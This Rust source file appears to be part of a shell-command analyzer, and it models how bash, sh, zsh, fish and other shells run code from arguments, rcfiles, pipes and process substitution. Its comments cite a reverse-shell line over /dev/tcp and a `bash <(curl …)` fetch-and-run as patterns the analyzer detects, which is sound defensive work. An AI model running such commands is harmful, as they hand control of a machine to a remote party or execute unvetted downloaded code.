//! Shells as programs: `bash -c '…'`, `sh script`, text piped into a shell.

use crate::dialect::Dialect;
use crate::facts::arg::{Arg, Knowledge, Stream};
use crate::facts::call::Call;
use crate::facts::options::Options;
use crate::facts::program::{Behavior, Program, program};
use crate::facts::walker::{Scoping, Walker};
use crate::facts::words::words;

pub(super) static PROGRAMS: &[Program] = &[
    program(&["bash", "rbash"], POSIX_SHELL, Behavior::Code(bash)),
    program(
        &[
            "sh", "dash", "ash", "ksh", "ksh93", "mksh", "yash", "csh", "tcsh", "posh", "lksh",
            "pdksh", "oksh", "loksh", "rksh", "osh", "jsh", "hush",
        ],
        POSIX_SHELL,
        Behavior::Code(sh),
    ),
    program(&["zsh"], POSIX_SHELL, Behavior::Code(zsh)),
    program(&["fish"], POSIX_SHELL, Behavior::Code(fish)),
    program(
        &["nu", "elvish", "xonsh", "rc", "es", "ion", "oil", "ysh", "murex", "scsh"],
        Options::leading("c|commands= e|execute= config= env-config= rc= h|help v|version"),
        Behavior::Code(foreign),
    ),
];

const POSIX_SHELL: Options = Options::leading(
    "c|command= s i|interactive l|login r e u v n o= O= rcfile= init-file= norc noprofile posix restricted help version init-command= C=",
);

fn bash<'a>(walker: &mut Walker<'a>, call: &Call<'a>) {
    posix_shell(walker, call, Dialect::Bash);
}

fn sh<'a>(walker: &mut Walker<'a>, call: &Call<'a>) {
    posix_shell(walker, call, Dialect::Sh);
}

fn zsh<'a>(walker: &mut Walker<'a>, call: &Call<'a>) {
    posix_shell(walker, call, Dialect::Zsh);
}

fn fish<'a>(walker: &mut Walker<'a>, call: &Call<'a>) {
    posix_shell(walker, call, Dialect::Fish);
}

fn posix_shell<'a>(walker: &mut Walker<'a>, call: &Call<'a>, dialect: Dialect) {
    if call.has_any(words!("help version")) {
        return;
    }
    // `bash -i >& /dev/tcp/host/4444 0>&1`: whoever is there decides what runs.
    if walker.connected {
        walker.mark_changing();
        walker.run_stream(Stream::Download, dialect, Scoping::Own, call.at);
        return;
    }
    // What it reads before anything else.
    for file in call.values("rcfile").chain(call.values("init-file")) {
        let content = match file.knowledge {
            Knowledge::Pipe(stream) => Some(*stream),
            _ if file.is("/dev/null") => None,
            _ => walker.content_of(file),
        };
        walker.mark_changing();
        if let Some(content) = content {
            walker.run_stream(content, dialect, Scoping::Own, file.at);
        }
    }
    if let Some(code) = call.value("init-command").or(call.value("C")) {
        walker.run_code(code, dialect, Scoping::Own);
    }
    if let Some(code) = call.value("command") {
        // `bash -c 'code' name arg…`: the words behind the code are $0, $1…
        let positional = call.operands.get(1..).unwrap_or(&[]);
        run_text(walker, code, dialect, Some(positional));
        return;
    }
    // `bash +e -c code`: a plus takes an option back and is not a script.
    if let [plus, rest @ ..] = call.operands
        && plus.text.starts_with('+')
    {
        if let Some(at) = rest.iter().position(|arg| arg.is("-c"))
            && let Some(code) = rest.get(at + 1)
        {
            run_text(walker, code, dialect, rest.get(at + 3..));
        }
        return walker.mark_changing();
    }
    if call.has("n") {
        return;
    }
    match call.operands {
        [script, ..] if !call.has("s") => match script.knowledge {
            // `bash <(curl …)`
            Knowledge::Pipe(stream) => {
                walker.mark_changing();
                walker.run_stream(*stream, dialect, Scoping::Own, script.at);
            }
            Knowledge::Whole
                if matches!(script.text, "/dev/stdin" | "-" | "/dev/fd/0" | "/proc/self/fd/0") =>
            {
                from_input(walker, call, dialect);
            }
            _ => {
                walker.mark_changing();
                // A script that this very text has written can be read.
                if let Some(found) = walker.script_of(script) {
                    let positional = call.operands.get(1..);
                    walker.with_positional(positional, |walker| {
                        walker.in_file(found.path, |walker| {
                            walker.run_stream(found.content, dialect, Scoping::Own, script.at)
                        });
                    });
                }
            }
        },
        _ => from_input(walker, call, dialect),
    }
}

/// Shells with a language of their own, which is not read.
fn foreign<'a>(walker: &mut Walker<'a>, call: &Call<'a>) {
    walker.mark_changing();
    let reads = call.operands.is_empty() && !matches!(walker.input(), Stream::Idle);
    if call.has_any(words!("commands execute")) || reads {
        walker.runs_unknown(call.at);
    }
}

/// Runs whatever flows in.
fn from_input<'a>(walker: &mut Walker<'a>, call: &Call<'a>, dialect: Dialect) {
    walker.mark_changing();
    let input = walker.input();
    walker.run_stream(input, dialect, Scoping::Own, call.at);
}

/// Runs an argument as a text of its own shell.
pub(super) fn run_text<'a>(
    walker: &mut Walker<'a>,
    code: &Arg<'a>,
    dialect: Dialect,
    positional: Option<&'a [Arg<'a>]>,
) {
    walker.mark_wrapper();
    match code.knowledge {
        Knowledge::Pipe(_) => {
            walker.run_stream(Stream::Unknown, dialect, Scoping::Own, code.at);
        }
        _ => {
            let output = walker
                .with_positional(positional, |walker| walker.run_code(code, dialect, Scoping::Own));
            walker.writes(output);
        }
    }
}
